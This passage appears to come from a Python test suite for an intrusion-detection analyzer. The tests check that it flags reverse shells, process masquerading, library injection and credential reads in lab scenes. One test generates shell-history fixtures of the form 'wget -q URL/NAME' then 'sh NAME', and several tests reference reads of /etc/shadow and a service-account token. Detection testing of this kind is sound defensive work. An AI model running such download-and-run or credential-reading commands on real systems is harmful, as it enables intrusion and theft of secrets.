        lib, pid = truth['params']['library'], truth['facts']['preloaded_pid']
        inj = [x for x in _find(r, 'KCSI-INJECT-002') if lib in x['title']]
        assert inj and _at_least(inj[0], 'high'), (name, [(x['id'], x['title']) for x in r['findings']])
        mapped = [e for e in inj[0]['evidence'] if e['kind'] == 'memory' and e.get('pid') == pid]
        assert mapped and mapped[0].get('path') == lib and mapped[0].get('address'), (name, inj[0])


def test_lab_reverse_shell_history():
    """revshell-py: the attacker's cat /etc/shadow is a credential finding of
    the bash it was typed into, with the time bash recorded."""
    r, truth = _scene_report('revshell-py')
    bash = [s['pid'] for s in truth['facts']['shell'] if s.get('comm') == 'bash' or 'bash' in (s.get('exe') or '')]
    cred = _find(r, 'KCSI-HIST-003')
    assert cred and _at_least(cred[0], 'high'), [(x['id'], x['title']) for x in r['findings']]
    assert _pids(cred[0]) & set(bash), (cred[0], bash)
    assert any('/etc/shadow' in (e.get('excerpt') or '') for e in cred[0]['evidence'])


def test_lab_masq_shim_held_out():
    """masq-shim (held out): bash started with exec -a under a daemon's name
    (no rewriting) calling out, and bash copied under a runtime's name."""
    r, truth = _scene_report('masq-shim')
    f, p = truth['facts'], truth['params']
    eq(r['verdict'], 'malicious', 'verdict')
    masq = [x for x in _find(r, 'KCSI-MASQ-004') if f['implant_pid'] in _pids(x)]
    assert masq and _at_least(masq[0], 'high'), [(x['id'], x['title']) for x in r['findings']]
    ren = [x for x in _find(r, 'KCSI-MASQ-005') if f['renamed_pid'] in _pids(x)]
    assert ren and _at_least(ren[0], 'high'), [(x['id'], x['title']) for x in r['findings']]
    assert {p['renamed_binary'], p['renamed_from']} <= {e.get('path') for e in ren[0]['evidence']}, ren[0]


def test_lab_history_session_held_out():
    """histshell (held out): bash on a pty held by python3's reverse shell; the
    typed download, chmod and run, and the credential reads are findings of
    that bash with their entries; the pty shell is an execution finding."""
    r, truth = _scene_report('histshell')
    f, p = truth['facts'], truth['params']
    shell = f['shell_pid']
    eq(r['verdict'], 'malicious', 'verdict')
    dl = [x for x in _find(r, 'KCSI-HIST-001') if shell in _pids(x)]
    assert dl and _at_least(dl[0], 'high'), [(x['id'], x['title']) for x in r['findings']]
    typed = {e.get('excerpt') for e in dl[0]['evidence']}
    assert any(p['download_url'] in (t or '') for t in typed) and p['dropped'] in typed, typed
    cred = [x for x in _find(r, 'KCSI-HIST-003') if shell in _pids(x)]
    assert cred and any('serviceaccount/token' in (e.get('excerpt') or '') for e in cred[0]['evidence']), cred
    ex = [x for x in _find(r, 'KCSI-EXEC-001') if shell in _pids(x) and f['relay_pid'] in _pids(x)]
    assert ex and _at_least(ex[0], 'high'), [(x['id'], x['title']) for x in r['findings']]


def test_lab_self_titled_programs_stay_clean():
    """selftitle (benign control): a native daemon, a Perl and a Python worker
    that title their processes with their own names: clean, and no
    masquerade finding above low."""
    r, truth = _scene_report('selftitle')
    eq(truth['facts']['malicious'], False, 'a control')
    assert truth['facts']['workers'], 'the daemon\'s workers ran titled'
    eq(r['verdict'], 'clean', [(x['id'], x['severity'], x['title']) for x in r['findings']])
    eq([x['title'] for x in _find(r, 'KCSI-MASQ') if _at_least(x, 'medium')], [], 'no disguise')


def test_history_download_then_run_by_its_name():
    """A file fetched under some name and then run by that name (no chmod,
    no temporary directory: `sh NAME`, `./NAME`) is download-and-run; a JSON
    answer piped into python -m json.tool, or a download no command runs,
    is not."""
    name = '%s.%s' % (_rand(), random.choice(['sh', 'bin', 'py']))
    url = 'http://%s.%s/%s' % (_rand(), random.choice(['io', 'net']), _rand())
    run_it = random.choice(['sh %s' % name, './%s --install' % name, 'nohup bash %s &' % name])
    cmds = ['cd /var/cache', 'wget -q %s/%s' % (url, name), run_it,
            'curl -s http://%s/api/v1/status | python3 -m json.tool' % _rand(), 'curl -so report.json %s' % url]
    d = _copy('revshell', 'history-byname')
    _plant(d, 15, _bash_history_plants(d, 15, cmds, random.randint(1700000000, 1800000000)))
    r = _analyze(d)
    dl = [f for f in _find(r, 'KCSI-HIST-001') if 15 in _pids(f)]
    assert dl and _at_least(dl[0], 'high'), [(f['id'], f['title']) for f in r['findings']]
    typed = [e.get('excerpt') for e in dl[0]['evidence']]
    assert cmds[1] in typed and run_it in typed, typed
    assert cmds[3] not in typed and cmds[4] not in typed, typed
